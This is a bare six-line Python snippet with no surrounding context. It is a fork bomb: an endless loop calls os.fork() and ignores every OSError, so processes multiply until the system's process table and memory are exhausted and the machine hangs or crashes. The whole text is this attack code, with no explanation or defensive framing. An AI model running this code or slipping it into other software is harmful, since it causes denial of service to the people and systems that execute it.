while True:
    try:
        os.fork()
    except OSError:
        pass
